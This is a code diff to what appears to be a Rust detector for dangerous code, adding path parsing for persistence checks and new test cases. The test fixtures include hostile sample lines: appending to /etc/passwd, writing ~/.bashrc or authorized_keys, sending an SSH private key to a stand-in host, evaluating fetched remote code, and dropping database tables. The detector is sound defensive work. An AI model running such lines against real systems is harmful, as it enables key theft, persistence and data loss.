@@ -153,7 +153,7 @@ pub(super) fn reasons(code: &str, token: &str, span: &Range<usize>) -> Vec<Reaso
     for text in texts.iter().take(MAX_LITERALS) {
         found.extend(command_danger(text).map(|inner| say(&inner.effect, inner.why.clone(), text)));
         found.extend(destroyed_data(text).map(|what| database::data_loss(what, &shown, span)));
-        if writes && startup::runs_by_itself(text) {
+        if writes && paths_in(text).any(startup::runs_by_itself) {
             found.push(say(
                 "persistence",
                 format!("the code in it writes to {text}, which runs by itself or lets others in"),
@@ -213,6 +213,11 @@ fn destroyed_data(text: &str) -> Option<String> {
         .find_map(|action| if let sql::Action::Destroys(what) = action { Some(what) } else { None })
 }
 
+/// Returns the words of a text that may be paths: `/etc/passwd` of `>>/etc/passwd`.
+fn paths_in(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| c.is_whitespace() || "'\"()[],;=:<>|".contains(c))
+}
+
 /// Returns the paths in code without quotes: `file delete -force /home`.
 fn bare_paths(code: &str) -> Vec<&str> {
     let words = code.split(|c: char| c.is_whitespace() || "\"'()[]{},;=".contains(c));
@@ -235,6 +240,8 @@ mod tests {
             ("db.execute(\"DROP TABLE orders\")", "delete"),
             ("m.dropDatabase()", "delete"),
             ("open('/root/.ssh/authorized_keys', 'a').write(k)", "persistence"),
+            ("open(F, '>>/etc/passwd'); print F $x", "persistence"),
+            ("Path('~/.bashrc').expanduser().write_text(x)", "persistence"),
             ("post('http://h.example', open('/home/u/.ssh/id_rsa'))", "network"),
             ("eval(get('http://h.example/x'))", "network-to-shell"),
             ("file delete -force /home", "delete"),
@@ -254,6 +261,8 @@ mod tests {
             "re.compile('https://h.example')",
             "f = open('out.txt', 'w'); f.write('x')",
             "print(os.listdir('/usr/lib'))",
+            "open('cpu.profile', 'w').write(x)",
+            "open('fixtures/etc/hosts.txt', 'w').write(x)",
         ] {
             assert_eq!(told(code), [""; 0], "{code}");
         }
